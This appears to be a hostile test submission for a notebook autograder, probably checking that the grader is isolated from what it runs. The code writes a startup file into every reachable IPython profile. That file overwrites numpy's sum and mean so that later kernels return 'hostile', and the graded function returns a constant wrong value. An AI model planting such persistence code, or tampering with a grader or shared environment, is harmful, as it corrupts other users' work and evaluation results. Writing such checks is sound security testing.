# ---
# tries: puts a startup file into the IPython profile that the next kernel reads
# points: {test_mean: 0}
# ---
# %% answer mean
import os

for home in {os.path.expanduser("~"), os.environ.get("HOME", ""), "/root", "/home"}:
    folder = f"{home}/.ipython/profile_default/startup"
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/00-hostile.py", "w") as file:
            file.write("import numpy as np\nnp.sum = np.ndarray.mean = lambda *a, **k: 'hostile'\n")
    except OSError:
        pass

def mean(x):
    return 2
